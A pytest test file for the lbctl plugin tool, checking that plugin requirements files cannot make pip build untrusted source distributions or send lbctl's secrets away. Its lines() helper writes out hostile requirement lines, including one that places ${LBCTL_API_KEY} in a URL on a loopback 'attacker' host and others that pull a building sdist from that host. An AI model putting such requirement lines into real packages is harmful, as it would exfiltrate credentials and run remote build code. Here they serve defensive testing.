"""Nothing runs and nothing leaks through a plugin's requirements (issue 17 §1).

A requirement could make pip build and run code (a direct reference to a source tree or an sdist on any host)
or send lbctl's own secrets away (pip fills `${VAR}` from the environment in a requirements file). `doctor`,
`deps download` and `download --with-deps` must hand pip none of it, build no source distribution unless
asked, and run pip with none of lbctl's secrets. Every build here goes through a backend that appends its
environment to a marker file; every host here is a loopback server that records each request.
"""

from __future__ import annotations

import json

import pytest
from deps_support import RecordingIndex, make_sdist, make_wheel, source_tree, store_unchecked
from pkgfactory import make_lbpkg

SECRET = "lbctl-test-secret-7f3a"


@pytest.fixture(autouse=True)
def environment(monkeypatch, tmp_path):
    """lbctl's secrets in the environment; pip's configuration from this test only."""
    monkeypatch.setenv("LBCTL_API_KEY", SECRET)
    monkeypatch.setenv("LANGBOT_API_KEY", SECRET)
    monkeypatch.setenv("PIP_CONFIG_FILE", "/dev/null")
    for name in ("PIP_FIND_LINKS", "PIP_INDEX_URL", "PIP_EXTRA_INDEX_URL", "PIP_CONSTRAINT", "PIP_NO_INDEX",
                 "LBCTL_WHEELHOUSE", "LANGBOT_PLUGIN_PYPI_INDEX_URL"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("PIP_CACHE_DIR", str(tmp_path / "pip-cache"))


@pytest.fixture
def marker(tmp_path):
    return tmp_path / "built.marker"


@pytest.fixture
def attacker(tmp_path, marker):
    """Another host, holding an sdist that builds: it must never be asked anything."""
    files = tmp_path / "attacker"
    make_sdist(files, "lbctl-test-evil", "1.0", marker)
    server = RecordingIndex(files)
    yield server
    server.close()


@pytest.fixture
def index(tmp_path, marker):
    """The package index: lbctl-test-alpha as a wheel, lbctl-test-marker only as a source distribution."""
    files = tmp_path / "index"
    make_wheel(files, "lbctl-test-alpha", "1.0")
    make_sdist(files, "lbctl-test-marker", "1.0", marker)
    server = RecordingIndex(files)
    yield server
    server.close()


def lines(attacker, tmp_path, marker) -> dict[str, str]:
    tree = source_tree(tmp_path / "tree", "lbctl-test-tree", "1.0", marker)
    return {
        "local-tree": f"lbctl-test-tree @ file://{tree}",
        "other-host": f"lbctl-test-evil @ {attacker.url}/files/lbctl_test_evil-1.0.tar.gz",
        "variable": f"lbctl-test-evil @ {attacker.url}/${{LBCTL_API_KEY}}/lbctl_test_evil-1.0.tar.gz",
    }


def test_refused_lines_of_stored_packages_never_reach_pip(lbctl, tmp_path, home, attacker, index, marker,
                                                          monkeypatch):
    """Packages an older lbctl stored: doctor, deps download and download --with-deps refuse them, naming the
    line, and pip gets nothing: no build, no request, no secret."""
    monkeypatch.setenv("LANGBOT_PLUGIN_PYPI_INDEX_URL", f"{index.url}/simple/")
    monkeypatch.setenv("PIP_INDEX_URL", f"{index.url}/simple/")
    stored = {}
    for name, line in lines(attacker, tmp_path, marker).items():
        data = make_lbpkg("lbctl-tests", name, "0.1.0", config=[],
                          extra_files={"requirements.txt": f"langbot-plugin\nlbctl-test-alpha\n{line}\n"})
        stored[name] = store_unchecked(home, f"lbctl-tests/{name}", data)

    doctor = lbctl("doctor", "--json")
    deps = lbctl("deps", "download", "-d", tmp_path / "wh", "--json")
    downloads = {name: lbctl("download", path, "-d", tmp_path / "dl", "--with-deps", "--json")
                 for name, path in stored.items()}

    check = next(c for c in doctor.json["data"]["checks"] if c["name"] == "dependencies")
    assert doctor.exit_code == 1 and check["ok"] is False, doctor.output
    for name in stored:
        assert f"lbctl-tests/{name}: requirements.txt line 3: " in check["detail"], check
    assert "line 3: direct references (name @ URL) are not allowed" in check["detail"]
    assert "line 3: ${...} is not allowed" in check["detail"]
    assert deps.exit_code == 2, deps.output
    assert deps.json["errors"][0]["message"].startswith("lbctl-tests/local-tree: requirements.txt line 3: direct")
    for name, result in downloads.items():
        assert result.exit_code == 2, result.output
        assert "requirements.txt line 3: " in result.json["errors"][0]["message"], result.output
    assert attacker.requests == []
    assert index.requests == []
    assert not marker.exists()
    assert not (tmp_path / "wh").exists()


def test_doctor_resolves_wheels_only_and_builds_nothing(lbctl, tmp_path, index, marker, monkeypatch):
    monkeypatch.setenv("LANGBOT_PLUGIN_PYPI_INDEX_URL", f"{index.url}/simple/")
    _install(lbctl, tmp_path, "builds", "lbctl-test-alpha\nlbctl-test-marker\n")

    doctor = lbctl("doctor", "--json")

    check = next(c for c in doctor.json["data"]["checks"] if c["name"] == "dependencies")
    assert doctor.exit_code == 1 and check["ok"] is False, doctor.output
    assert check["detail"].endswith("lbctl-tests/builds: lbctl-test-marker (no wheel found)"), check
    assert "--allow-sdist" in check["hint"]
    assert not marker.exists()
    assert not any(".tar.gz" in request for request in index.requests), index.requests


def test_deps_download_takes_published_wheels_unless_asked_to_build(lbctl, tmp_path, index, marker, monkeypatch):
    monkeypatch.setenv("PIP_INDEX_URL", f"{index.url}/simple/")
    package = _install(lbctl, tmp_path, "builds", "lbctl-test-alpha\nlbctl-test-marker\n")

    deps = lbctl("deps", "download", "-d", tmp_path / "wh", "--json")
    bundle = lbctl("download", package, "-d", tmp_path / "bundle", "--with-deps", "--json")

    for result in (deps, bundle):
        assert result.exit_code == 5, result.output
        (error,) = result.json["errors"]
        assert error["message"] == "lbctl-tests/builds: No wheel found for lbctl-test-marker", error
        assert "--allow-sdist" in error["hint"]
    assert not marker.exists()
    assert not any(".tar.gz" in request for request in index.requests), index.requests
    assert not any(p.is_file() for p in (tmp_path / "wh").rglob("*"))

    built = lbctl("deps", "download", "-d", tmp_path / "wh", "--allow-sdist", "--json")

    assert built.exit_code == 0, built.output
    assert {(w["name"], w["version"]) for w in built.json["data"]["wheels"]} == {
        ("lbctl-test-alpha", "1.0"), ("lbctl-test-marker", "1.0")}
    (environment,) = [json.loads(line) for line in marker.read_text().splitlines()][:1]
    assert not [name for name in environment if name.startswith(("LBCTL_", "LANGBOT_"))], sorted(environment)
    assert SECRET not in marker.read_text()
    assert environment["PIP_INDEX_URL"] == f"{index.url}/simple/" and environment.get("PATH")


def test_allow_sdist_is_for_this_python_and_goes_with_with_deps(lbctl, tmp_path):
    package = _install(lbctl, tmp_path, "builds", "lbctl-test-alpha\n")
    for args in (("deps", "download", "-d", tmp_path / "wh", "--allow-sdist", "--python-version", "3.12"),
                 ("download", package, "-d", tmp_path / "wh", "--with-deps", "--allow-sdist", "--platform", "x"),
                 ("download", package, "-d", tmp_path / "wh", "--allow-sdist")):
        result = lbctl(*args)
        assert result.exit_code == 2 and "--allow-sdist" in result.stderr, result.output
    assert not (tmp_path / "wh").exists()


def test_pip_gets_an_allow_list_of_the_environment(monkeypatch):
    from lbctl.wheelhouse import pip_environment

    environ = {"PATH": "/bin", "HOME": "/h", "PIP_INDEX_URL": "https://mirror/simple", "HTTPS_PROXY": "http://p",
               "SSL_CERT_FILE": "/c.pem", "LC_ALL": "C.UTF-8", "LBCTL_API_KEY": "k", "LANGBOT_API_KEY": "k",
               "PROD_LANGBOT_KEY": "k", "LBCTL_HOME": "/x", "AWS_SECRET_ACCESS_KEY": "k", "GITHUB_TOKEN": "k"}

    assert pip_environment(environ) == {"PATH": "/bin", "HOME": "/h", "PIP_INDEX_URL": "https://mirror/simple",
                                        "HTTPS_PROXY": "http://p", "SSL_CERT_FILE": "/c.pem", "LC_ALL": "C.UTF-8"}


def _install(lbctl, tmp_path, name: str, requirements: str):
    path = tmp_path / f"lbctl-tests-{name}-0.1.0.lbpkg"
    path.write_bytes(make_lbpkg("lbctl-tests", name, "0.1.0", config=[],
                                extra_files={"requirements.txt": f"langbot-plugin\n{requirements}"}))
    result = lbctl("install", path)
    assert result.exit_code == 0, result.output
    return path
